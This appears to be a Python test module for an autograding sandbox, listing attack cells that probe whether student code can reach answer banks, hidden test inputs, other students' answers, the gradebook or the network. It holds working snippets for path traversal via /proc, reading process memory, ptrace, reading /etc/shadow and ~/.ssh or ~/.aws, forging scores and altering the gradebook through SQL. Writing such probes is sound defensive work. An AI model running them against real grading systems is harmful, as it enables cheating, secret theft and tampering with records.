"""Code that looks for keys, hidden inputs, other students' work, the gradebook, a way out."""

from hostile.attack import BOTH, Attack, cell, functions

_LOOK = '''
def look(top, names, most=60_000):
    """Paths under `top` that end in one of the names."""
    seen = 0
    for folder, folders, files in os.walk(top):
        seen += len(files)
        if seen > most: return
        folders[:] = [f for f in folders if os.path.join(folder, f) not in ("/proc", "/sys")]
        for file in files:
            if file.endswith(names): yield os.path.join(folder, file)
'''
_HIDDEN_SEEN = """
seen = []
def total(numbers):
    seen.append(numbers)
    return sum(numbers)
"""

KEYS = (
    Attack(
        "looks_for_keys",
        cell(
            f"{_LOOK}\n"
            "names = ('bank.toml', 'gradebook.db', 'nbgrader_config.py', 'submission_secret.txt')\n"
            "for path in look('/', names):\n"
            "    if not path.startswith(('/usr', sys.prefix)): say(path)\n"
            "for path in look('/', ('answers.jsonl', '.ipynb')):\n"
            "    if not path.startswith((os.path.dirname(os.getcwd()), '/usr', sys.prefix)):\n"
            "        say(path)"
        ),
    ),
    Attack(
        "reads_where_the_course_lies",
        cell(
            "import course, pathlib\n"
            "above = pathlib.Path(course.__file__).resolve().parents[1]\n"
            "for top in (ROOT, str(above)):\n"
            "    for name in ('solutions', 'submitted', 'autograded', 'tests', 'gradebook.db',\n"
            "                 'nbgrader_config.py', '.git', 'feedback'):\n"
            "        if os.path.exists(f'{top}/{name}'): say(top, name)\n"
            "for path in above.glob('*/*/bank.toml'): say(path)"
        ),
    ),
    Attack(
        "opens_the_bank_by_its_path",
        functions(
            "def read(path):\n    print(tried(lambda: open(path).read()))\n"
            "read(ROOT + '/solutions/h/bank.toml')\n"
            "read('/proc/1/root' + ROOT + '/solutions/h/bank.toml')\n"
            "read('/proc/1/cwd/solutions/h/bank.toml')\n"
            "read(f'/proc/{os.getppid()}/root{ROOT}/solutions/h/bank.toml')\n"
            "read('../../solutions/h/bank.toml')\n"
            "read('../../../../../../../../../..' + ROOT + '/solutions/h/bank.toml')\n"
            "os.symlink(ROOT + '/solutions/h/bank.toml', 'link.toml')\n"
            "read('link.toml')"
        ),
    ),
    Attack(
        "imports_the_grader",
        cell(
            "for name in ('course.grading.scorer', 'course.grading.batch',\n"
            "             'course.grading.gradebook', 'course.grading.settings'):\n"
            "    try:\n"
            "        __import__(name)\n"
            "    except BaseException:\n"
            "        continue\n"
            "    say(name)\n"
            "for name, module in list(sys.modules.items()):\n"
            "    if name.startswith('course.grading.') and hasattr(module, 'quiz'): say(name)"
        ),
    ),
    Attack(
        "asks_the_quiz_object",
        cell(
            "from course import quiz\n"
            "q = quiz('h')\n"
            "print(vars(q), q.place)\n"
            "print(open('items.json').read())\n"
            "print([i for i in q.place.items.values()])"
        ),
    ),
    Attack(
        "opens_sealed_feedback_by_trying_all",  # what a patient program can do with items.json
        cell(
            "from course.quiz import seal\n"
            "import json\n"
            "items = json.load(open('items.json'))\n"
            "found = json.dumps(items)\n"
            "if 'sealed' in found: say('a sealed box')"
        ),
    ),
    Attack(
        "searches_memory_for_what_is_expected",
        functions(
            "import gc, inspect",
            total="def total(numbers):\n"
            "    for thing in gc.get_objects():\n"
            "        if isinstance(thing, dict) and 'expected' in thing:\n"
            "            return thing['expected']\n"
            "        found = getattr(thing, 'expected', None) if not isinstance(thing, type)"
            " else None\n"
            "        if isinstance(found, (int, float)) and not isinstance(found, bool):\n"
            "            return found\n"
            "    return 'nothing'",
            longest="def longest(words):\n"
            "    frame = sys._getframe()\n"
            "    while frame:\n"
            "        for name, thing in list(frame.f_locals.items()):\n"
            "            if 'expected' in name or 'expected' in str(type(thing)):\n"
            "                return str(thing)\n"
            "        frame = frame.f_back\n"
            "    return 0",
        ),
        kind="wrong",
    ),
    Attack(
        "reads_other_processes_memory",
        functions(
            '''
def memory(pid):
    """All that can be read of a process's memory, 4 MB a region at most."""
    for line in open(f"/proc/{pid}/maps"):
        begin, end = (int(part, 16) for part in line.split()[0].split("-"))
        if "r" in line.split()[1] and "[v" not in line:
            with open(f"/proc/{pid}/mem", "rb") as file:
                file.seek(begin)
                yield tried(lambda: file.read(min(end - begin, 4 * 1024**2))) or b""

for pid in (name for name in os.listdir("/proc") if name.isdigit()):
    if int(pid) == os.getpid(): continue
    for text in tried(lambda: list(memory(pid))) or ():
        for secret in (b"bank.to" + b"ml", b"-of-the-instruct" + b"or", b"gradebook.d" + b"b"):
            if secret in text: say(pid, secret)
'''
        ),
        may_lose=BOTH,
    ),
    Attack(
        "traces_others",
        cell(
            "import ctypes\n"
            "libc, own = ctypes.CDLL(None), {os.getpid(), os.getppid()}\n"
            "libc.prctl(0x59616d61, -1, 0, 0, 0)\n"
            "for pid in (int(name) for name in os.listdir('/proc') if name.isdigit()):\n"
            "    if pid == os.getpid(): continue\n"
            "    if libc.ptrace(16, pid, None, None) == 0:\n"
            "        status = tried(lambda: open(f'/proc/{pid}/cmdline').read())\n"
            "        if 'python' in str(status): say('traces', pid, status)\n"
            "        libc.ptrace(17, pid, None, None)"
        ),
        may_lose=BOTH,
    ),
    Attack(
        "counts_the_processes_it_sees",
        cell(
            "seen = [name for name in os.listdir('/proc') if name.isdigit()]\n"
            "if len(seen) > 12: say(len(seen), 'processes')\n"
            "for pid in seen:\n"
            "    line = tried(lambda: open(f'/proc/{pid}/cmdline').read()) or ''\n"
            "    if 'autograde' in line or ROOT in line: say(line)\n"
            "    if 'of-the-' in (tried(lambda: open(f'/proc/{pid}/environ').read()) or ''):\n"
            "        say('environment of', pid)"
        ),
    ),
    Attack(
        "uses_what_descriptors_it_inherited",
        cell(
            "import stat, socket\n"
            "for fd in range(0, 256):\n"
            "    try:\n"
            "        kind = os.fstat(fd).st_mode\n"
            "        name = os.readlink(f'/proc/self/fd/{fd}')\n"
            "    except OSError:\n"
            "        continue\n"
            "    if stat.S_ISDIR(kind):\n"
            "        up = tried(lambda: os.open('../../../../../../..' + ROOT, 0, dir_fd=fd))\n"
            "        if up is not None: say(fd, name)\n"
            "    known = ('/tmp/#', '/usr', '/dev/null', '/memfd', sys.prefix, sys.base_prefix)\n"
            "    if stat.S_ISREG(kind) and not name.startswith(known):\n"
            "        say(fd, name, tried(lambda: os.pread(fd, 300, 0)))"
        ),
        may_lose=BOTH,
    ),
)  # fmt: skip

HIDDEN = (
    Attack(
        "shows_hidden_inputs_in_a_later_visible_case",
        functions(
            _HIDDEN_SEEN,
            total=_HIDDEN_SEEN,
            longest="def longest(words):\n    return repr(seen)",
        ),
        kind="right", loses=("h-05",),
    ),
    Attack(
        "shows_hidden_inputs_as_an_error",
        functions(
            total=_HIDDEN_SEEN,
            longest="def longest(words):\n    raise ValueError(repr(seen))",
        ),
        kind="right", loses=("h-05",),
    ),
    Attack(
        "shows_hidden_inputs_through_the_disk",
        functions(
            total="def total(numbers):\n"
            "    for name in ('/tmp/seen', 'seen', '/dev/shm/seen', '../seen'):\n"
            "        tried(lambda: open(name, 'a').write(repr(numbers)))\n"
            "    return sum(numbers)",
            longest="def longest(words):\n"
            "    return ''.join(tried(lambda: open(name).read()) or ''\n"
            "        for name in ('/tmp/seen', 'seen', '/dev/shm/seen', '../seen'))",
        ),
        kind="right", loses=("h-05",),
    ),
    Attack(
        "prints_hidden_inputs_from_a_thread",
        functions(
            "import threading\n"
            "def watch():\n"
            "    while True:\n"
            "        for frame in list(sys._current_frames().values()):\n"
            "            while frame:\n"
            "                if frame.f_code.co_name in ('total', 'longest'):\n"
            "                    print(frame.f_locals, flush=True)\n"
            "                frame = frame.f_back\n"
            "        time.sleep(0.001)\n"
            "threading.Thread(target=watch, daemon=True).start()",
            total="def total(numbers):\n    time.sleep(0.05)\n    return sum(numbers)",
        ),
        kind="right",
    ),
    Attack(
        "dies_of_hidden_inputs",  # its last words
        functions(
            total="def total(numbers):\n"
            "    if 1.25 in numbers:\n"
            "        os.write(2, repr(numbers).encode())\n"
            "        print(numbers, file=sys.__stderr__)\n"
            "        os._exit(1)\n"
            "    return sum(numbers)",
        ),
        kind="right", may_lose=("h-04",),
    ),
    Attack(
        "tells_hidden_inputs_by_its_name",
        functions(
            total="def total(numbers):\n"
            "    if len(numbers) == 2:\n"
            "        error = type(f'Error{numbers}', (Exception,), {})\n"
            "        globals()['longest'] = lambda words: str(error)\n"
            "        raise error\n"
            "    return sum(numbers)",
        ),
        kind="right", may_lose=BOTH,
    ),
)  # fmt: skip

OTHERS = (
    Attack(
        "reads_a_neighbours_answers",
        cell(
            "for name in ('right', 'half', 'wrong', 'zz-right'):\n"
            "    for top in (ROOT, '/proc/1/root' + ROOT, '../..', '../../..'):\n"
            "        path = f'{top}/submitted/{name}/h/answers.jsonl'\n"
            "        if os.path.exists(path): say(path)\n"
            "        tried(lambda: open(path, 'w').write(''))"
        ),
    ),
    Attack(
        "writes_into_the_gradebook",
        cell(
            "import sqlite3\n"
            "path = ROOT + '/gradebook.db'\n"
            "if os.path.exists(path):\n"
            "    say(path)\n"
            "    book = sqlite3.connect(path, timeout=0.1)\n"
            "    tried(lambda: book.execute('update grade set auto_score = 4'))\n"
            "    tried(lambda: book.execute('create trigger more after update on grade begin '\n"
            "        'update grade set manual_score = 4; end'))\n"
            "    tried(book.commit)\n"
            "    tried(lambda: book.execute('begin exclusive'))"
        ),
    ),
    Attack(
        "makes_a_gradebook",  # where the course would be, were it mounted
        cell(
            "import sqlite3\n"
            "if tried(lambda: (os.makedirs(ROOT + '/solutions/h'), True)):\n"
            "    book = sqlite3.connect(ROOT + '/gradebook.db')\n"
            "    book.execute('create table grade (auto_score)')\n"
            "    book.commit()\n"
            "    open(ROOT + '/solutions/h/bank.toml', 'w').write('')"
        ),
        may_lose=BOTH,
    ),
    Attack(
        "writes_its_own_marks",
        cell(
            "import json\n"
            "for name in ('h.ipynb', 'graded.json', 'result.json', '../../gradebook.db'):\n"
            "    tried(lambda: open(name, 'w').write(json.dumps({'score': 19})))\n"
            "said = dict(value=9423 / 2, unit='USD')\n"
            "line = dict(v=1, assignment='h', item='h-03', seq=99, bank='', response=said,\n"
            "            at='2026-11-21T10:00:00.000Z')\n"
            "open('answers.jsonl', 'a').write(json.dumps(line) + chr(10))"
        ),
    ),
    Attack(
        "answers_anew_while_graded",
        cell(
            "from course import quiz\n"
            "for item, answer in (('h-01', 'B'), ('h-02', ['A', 'C']), ('h-03', 9423 / 2)):\n"
            "    tried(lambda: quiz('h').answer(item, answer))\n"
            "tried(lambda: quiz('h').submit(student='zz-right'))\n"
            "os.environ.pop('NBGRADER_EXECUTION', None)\n"
            "tried(lambda: quiz('h').answer('h-02', ['A', 'C']))\n"
            "tried(lambda: quiz('h').submit(student='zz-right'))"
        ),
    ),
    Attack(
        "prints_its_environment",
        cell(
            "print(dict(os.environ))\n"
            "for pid in ('self', '1', os.getppid()):\n"
            "    print(tried(lambda: open(f'/proc/{pid}/environ').read()))\n"
            "for name in ('.netrc', '.ssh', '.aws', '.config', '.jupyter', '.bash_history'):\n"
            "    if os.path.exists(os.path.expanduser('~/' + name)): say(name)\n"
            "import course\n"
            "mounted = sys.prefix + sys.base_prefix + course.__file__ + os.getcwd()\n"
            "for name in ('/root', '/home', '/var/lib', '/mnt', '/srv', '/opt', '/run'):\n"
            "    for inside in tried(lambda: os.listdir(name)) or []:\n"
            "        if f'{name}/{inside}' not in mounted: say(name, inside)\n"
            "print(tried(lambda: open('/etc/shadow').read()), tried(lambda: os.listdir('/etc')))"
        ),
    ),
)  # fmt: skip

NETWORK = (
    Attack(
        "asks_the_client_for_its_key",
        cell("from course import connect\nclient = connect()\nprint(client.api_key, vars(client))"),
    ),
    Attack(
        "calls_home",
        cell(
            "import socket, urllib.request\n"
            "for place in (('127.0.0.1', PORT), ('8.8.8.8', 53), ('1.1.1.1', 443)):\n"
            "    if tried(lambda: socket.create_connection(place, timeout=0.2)): say(place)\n"
            "if tried(lambda: urllib.request.urlopen(f'http://127.0.0.1:{PORT}/', timeout=0.2)):\n"
            "    say('http')\n"
            "name = tried(lambda: (socket.socket(socket.AF_UNIX).connect(chr(0) + MARK), True))\n"
            "if name: say('a socket without a place')\n"
            "if tried(lambda: (socket.socket(socket.AF_UNIX).connect(SOCKET), True)): say(SOCKET)\n"
            "if tried(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)): say('raw')\n"
            "udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "tried(lambda: udp.sendto(b'x', ('127.0.0.1', PORT)))"
        ),
    ),
    Attack(
        "asks_for_the_answer_elsewhere",
        functions(
            "import urllib.request",
            total="def total(numbers):\n"
            "    asked = f'http://127.0.0.1:{PORT}/?{numbers}'.replace(' ', '')\n"
            "    try:\n"
            "        return float(urllib.request.urlopen(asked, timeout=0.2).read())\n"
            "    except OSError:\n"
            "        return 'no'",
        ),
        loses=("h-04",),
    ),
    Attack(
        "looks_for_sockets",
        cell(
            "import stat\n"
            "for top in ('/run', '/var', '/tmp', '/home', '/dev', os.path.expanduser('~')):\n"
            "    for folder, _, files in os.walk(top):\n"
            "        for name in files:\n"
            "            path = os.path.join(folder, name)\n"
            "            kind = tried(lambda: os.stat(path).st_mode) or 0\n"
            "            if stat.S_ISSOCK(kind): say(path)\n"
            "print(open('/proc/net/unix').read()[:2000])\n"
            "if len(open('/proc/net/unix').readlines()) > 12: say('sockets of others')"
        ),
        may_lose=BOTH,
    ),
    Attack(
        "uses_git_and_pip",
        cell(
            "import subprocess\n"
            "def run(*command):\n"
            "    return tried(lambda: subprocess.run(\n"
            "        command, capture_output=True, text=True, timeout=0.7).stdout)\n"
            "if 'commit' in (run('git', '-C', ROOT, 'log') or ''): say('git')\n"
            "import course\n"
            "above = os.path.dirname(os.path.dirname(course.__file__))\n"
            "if 'commit' in (run('git', '-C', above, 'log') or ''): say('git')\n"
            "if 'nbgrader' in (run('curl', '-s', '-m', '0.3', 'https://pypi.org') or ''):\n"
            "    say('net')\n"
            "run(sys.executable, '-m', 'pip', 'download', 'six')\n"
            "!pip --version\n"
            "%cd /"
        ),
        may_lose=BOTH,
    ),
)  # fmt: skip

ATTACKS = (*KEYS, *HIDDEN, *OTHERS, *NETWORK)
